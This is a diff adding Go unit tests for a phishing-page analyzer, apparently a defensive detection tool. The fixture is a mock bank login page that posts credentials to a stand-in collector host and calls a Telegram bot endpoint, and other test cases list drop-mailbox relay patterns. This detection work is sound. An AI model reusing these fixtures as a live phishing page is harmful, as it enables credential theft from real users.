@@ -0,0 +1,182 @@
+package analysis
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+)
+
+const kitPage = `<!DOCTYPE html>
+<html>
+<head>
+  <title>AcmeBank | Internet Banking</title>
+  <meta property="og:site_name" content="AcmeBank">
+  <link rel="shortcut icon" href="/assets/favicon.ico">
+  <!-- 16shop scampage v3 -->
+  <script>eval(atob("ZG9jdW1lbnQ="));</script>
+  <script>
+    fetch("https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage", {method: "POST"});
+  </script>
+</head>
+<body>
+  <img class="brand-logo" src="img/acme-logo.png" alt="AcmeBank">
+  <img src="https://logo.clearbit.com/acmebank.com">
+  <form id="login" action="https://collector.example.net/next.php" method="post">
+    <input type="email" name="email">
+    <input type="password" name="pass">
+    <input type="hidden" name="token" value="x">
+    <input type="submit" value="Entrar">
+  </form>
+  <form action="/search"><input name="q"></form>
+</body>
+</html>`
+
+func TestAnalyzer_Analyze_KitPage(t *testing.T) {
+	analyzer := NewAnalyzer(DefaultConfig())
+	result := analyzer.Analyze("https://acme-login.xyz/secure/index.html", []byte(kitPage), "AcmeBank")
+
+	if !result.HasLoginForm || !result.HasPasswordForm {
+		t.Fatalf("Expected login and password form, got %+v", result)
+	}
+	if len(result.Forms) != 2 {
+		t.Fatalf("Expected 2 forms, got %d", len(result.Forms))
+	}
+
+	login := result.Forms[0]
+	if login.Method != "POST" || login.PasswordFields != 1 || !login.CrossDomain || !login.Login {
+		t.Errorf("Unexpected login form: %+v", login)
+	}
+	if strings.Join(login.Fields, ",") != "email,pass" {
+		t.Errorf("Expected visible fields only, got %v", login.Fields)
+	}
+
+	search := result.Forms[1]
+	if search.Login || search.CrossDomain || search.Action != "https://acme-login.xyz/search" {
+		t.Errorf("Unexpected search form: %+v", search)
+	}
+
+	if len(result.TelegramBots) != 1 || result.TelegramBots[0] != "bot123456789:AAHd***" {
+		t.Errorf("Expected masked Telegram bot, got %v", result.TelegramBots)
+	}
+	for _, post := range result.ExternalPosts {
+		if strings.Contains(post, "vGWJxfSeofSAs0K5PALDsaw") {
+			t.Errorf("Telegram token leaked in external posts: %s", post)
+		}
+	}
+	if len(result.ExternalPosts) != 2 {
+		t.Errorf("Expected form and script destinations, got %v", result.ExternalPosts)
+	}
+
+	if len(result.Brands) != 1 || result.Brands[0] != "AcmeBank" {
+		t.Errorf("Expected AcmeBank brand, got %v", result.Brands)
+	}
+	if len(result.Logos) != 2 || result.Logos[0] != "https://acme-login.xyz/secure/img/acme-logo.png" {
+		t.Errorf("Unexpected logos: %v", result.Logos)
+	}
+	if len(result.Favicons) != 1 || result.Favicons[0] != "https://acme-login.xyz/assets/favicon.ico" {
+		t.Errorf("Unexpected favicons: %v", result.Favicons)
+	}
+
+	markers := map[string]string{}
+	for _, marker := range result.KitMarkers {
+		markers[marker.Name] = marker.Evidence
+	}
+	for _, name := range []string{"16shop", "logokit", "obfuscated_js", "scampage_signature", "exfil_endpoint", "telegram_exfil"} {
+		if _, found := markers[name]; !found {
+			t.Errorf("Expected kit marker %s, got %v", name, markers)
+		}
+	}
+	if strings.Contains(markers["telegram_exfil"], "vGWJxfSeofSAs0K5PALDsaw") {
+		t.Errorf("Telegram token leaked in marker evidence: %s", markers["telegram_exfil"])
+	}
+}
+
+func TestAnalyzer_Analyze_Forms(t *testing.T) {
+	tests := []struct {
+		name        string
+		body        string
+		login       bool
+		password    bool
+		crossDomain bool
+	}{
+		{"benign page", `<html><body><h1>Welcome</h1></body></html>`, false, false, false},
+		{"newsletter", `<form action="/subscribe"><input type="email" name="email"></form>`, false, false, false},
+		{"email step of login", `<form action="/signin/next"><input type="email" name="email"></form>`, true, false, false},
+		{"password outside form", `<div><input type="password" id="pwd"></div>`, true, true, false},
+		{"subdomain is same site", `<form action="https://auth.example.com/login"><input type="password"></form>`, true, true, false},
+		{"other domain", `<form action="https://drop.example.org/p.php"><input name="user"><input type="password"></form>`, true, true, true},
+	}
+
+	analyzer := NewAnalyzer(DefaultConfig())
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result := analyzer.Analyze("https://www.example.com/", []byte(tt.body))
+			if result.HasLoginForm != tt.login || result.HasPasswordForm != tt.password {
+				t.Errorf("Expected login=%v password=%v, got %+v", tt.login, tt.password, result)
+			}
+			if crossDomain := len(result.ExternalPosts) > 0; crossDomain != tt.crossDomain {
+				t.Errorf("Expected cross domain=%v, got %v", tt.crossDomain, result.ExternalPosts)
+			}
+		})
+	}
+}
+
+func TestAnalyzer_Analyze_DropMailboxes(t *testing.T) {
+	tests := []struct {
+		name string
+		body string
+		want []string
+	}{
+		{"mailto action", `<form action="MAILTO:Drop.Box@Gmail.com?subject=acme" method="post"><input type="password"></form>`, []string{"drop.box@gmail.com"}},
+		{"form relay", `<form action="https://formsubmit.co/drop%40outlook.com" method="POST"><input name="user"></form>`, []string{"drop@outlook.com"}},
+		{"ajax relay in script", `<script>fetch("https://formsubmit.co/ajax/rezult@proton.me", {method: "POST"})</script>`, []string{"rezult@proton.me"}},
+		{"hidden recipient", `<form action="mailer.php"><input type="hidden" name="recipient" value="logs@yahoo.com"><input type="hidden" name="subject" value="x@y.com"></form>`, []string{"logs@yahoo.com"}},
+		{"contact link is not a drop", `<a href="mailto:support@acmebank.com">Contact</a>`, nil},
+		{"invalid address", `<form action="mailto:not-an-address"></form>`, nil},
+	}
+
+	analyzer := NewAnalyzer(DefaultConfig())
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result := analyzer.Analyze("https://www.example.com/", []byte(tt.body))
+			if !reflect.DeepEqual(result.DropMailboxes, tt.want) {
+				t.Errorf("Expected drop mailboxes %v, got %v", tt.want, result.DropMailboxes)
+			}
+		})
+	}
+}
+
+func TestAnalyzer_Analyze_ConfiguredBrands(t *testing.T) {
+	config := DefaultConfig()
+	config.Brands = []string{"Contoso", "Fabrikam"}
+	analyzer := NewAnalyzer(config)
+
+	result := analyzer.Analyze("https://contoso-verify.top/", []byte(`<title>Verify your account</title><p>Fabrikam customers must verify</p>`))
+	if len(result.Brands) != 1 || result.Brands[0] != "Fabrikam" {
+		t.Errorf("Expected only brands present in the page, got %v", result.Brands)
+	}
+	if len(result.KitMarkers) != 0 {
+		t.Errorf("Expected no kit markers, got %v", result.KitMarkers)
+	}
+}
+
+func TestContentAnalysis_Summary(t *testing.T) {
+	analyzer := NewAnalyzer(DefaultConfig())
+	summary := analyzer.Analyze("https://acme-login.xyz/", []byte(kitPage)).Summary()
+
+	for _, fragment := range []string{
+		"credential form with 1 password field(s) posting to https://collector.example.net/next.php (other domain)",
+		"exfiltration to Telegram bot bot123456789:AAHd***",
+		"impersonated brand: AcmeBank",
+		"phishing kit markers: 16shop",
+	} {
+		if !strings.Contains(summary, fragment) {
+			t.Errorf("Summary missing %q: %s", fragment, summary)
+		}
+	}
+
+	empty := analyzer.Analyze("https://example.com/", []byte("<p>hello</p>"))
+	if empty.Summary() != "no page content findings" {
+		t.Errorf("Unexpected summary for benign page: %s", empty.Summary())
+	}
+}